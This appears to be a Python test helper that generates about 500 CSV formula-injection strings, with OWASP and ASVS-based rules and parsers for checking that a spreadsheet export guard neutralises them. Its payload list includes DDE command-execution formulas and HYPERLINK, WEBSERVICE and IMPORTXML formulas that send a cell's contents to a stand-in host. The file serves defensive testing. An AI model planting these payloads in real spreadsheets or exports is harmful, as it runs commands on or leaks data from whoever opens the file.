"""500 texts that a spreadsheet would run as formulas, and the rules that say whether it would.

python tests/formula_strings.py FOLDER writes them as CSV files, guarded and not, for a look
with LibreOffice.

The rules are OWASP's ("CSV Injection") and ASVS 5.0's (1.2.10): no cell begins with = + - @
tab, CR, LF, NUL or a full-width form; nor, under other settings, does what comes after a
separator, a line's end or a quote.
"""

import csv
import io
import re
import sys
from itertools import islice, product
from pathlib import Path

import pandas as pd

from pmskills.spreadsheet import to_csv

BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid/?"&A1,"more")',
    'WEBSERVICE("http://example.invalid/"&A1)',
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "2+5+cmd|' /C calc'!A0",
    'IF(1=1,"a","b")',
]
STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
BEFORE = [
    *("", " ", "\t", "\r", "\n", "\r\n", "\x00", "\x0b", "\x0c", "\u00a0", "\u2003", "\u3000"),
    *(
        "\u200b",
        "\u200e",
        "\u2060",
        "\ufeff",
        "\u202e",
        "\u2066",
        "\u00ad",
        "\u180e",
        "\x1f",
        "\x7f",
    ),
    *("'", '"', "''", '""', "' ", '"\t', "\"'", "\u2028", "\x85"),
    *("a,", "a;", "a\t", "a|", "a\n", "a\r", "a\r\n", 'a"', 'a",', "a';", 'a"\n"', "a, \u00a0"),
    *('a"",""', "a;;", "a\t\t", "a,\x00", "a,\u200b", "a|'", 'a\n"'),
]


def formulas(count=500):
    """Return texts, each prefix and each start among them, bodies in turn."""
    pairs = [(before, start) for start, before in product(STARTS, BEFORE)]
    texts = [
        before + start + BODIES[(place + place // len(BODIES)) % len(BODIES)]
        for place, (before, start) in enumerate(pairs)
    ]
    odd = ["\t1", "\r1", "\n1", "\x001", "+", "-", "@", "=", "--1", "=\n1"]
    more = (f"{b}={body}" for body, b in product(BODIES, BEFORE))
    every = list(dict.fromkeys([*texts, *odd, *more]))
    return list(islice(every, count))


CONTROLS = "\t\r\n\x00"
SKIPPED = re.compile(
    r"^[\s\x00-\x1f\x7f\u00ad\u180e\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]+"
)
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?(e[+-]?\d+)?")


def runs(cell):
    """Return whether a cell breaks a rule; a number does not."""
    if NUMBER.fullmatch(cell):
        return False
    return cell[:1] in tuple(CONTROLS) or SKIPPED.sub("", cell)[:1] in tuple(STARTS)


def cells(text):
    """Return what any reader may take for a cell of a CSV file, whatever its settings."""
    for separator in ",;\t|":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            lines = io.StringIO(text, newline="")
            for row in csv.reader(lines, delimiter=separator, quoting=quoting):
                bare = quoting == csv.QUOTE_NONE
                yield from (cell.lstrip('"') if bare else cell for cell in row)
    # A reader that knows nothing of quotes: every separator, line's end and quote begins a cell.
    yield from (part for part in re.split(r"[,;\t|\r\n\"]", text) if part)


def guarded_and_not():
    """Return the texts as a table of two columns and more, guarded and as they are."""
    frame = pd.DataFrame({"name": formulas(), "note": formulas()[::-1], "level": 3})
    return to_csv(frame), frame.to_csv(index=False, lineterminator="\r\n")


if __name__ == "__main__":
    for NAME, TEXT in zip(("guarded", "control"), guarded_and_not(), strict=True):
        (Path(sys.argv[1]) / f"{NAME}.csv").write_bytes(TEXT.encode())
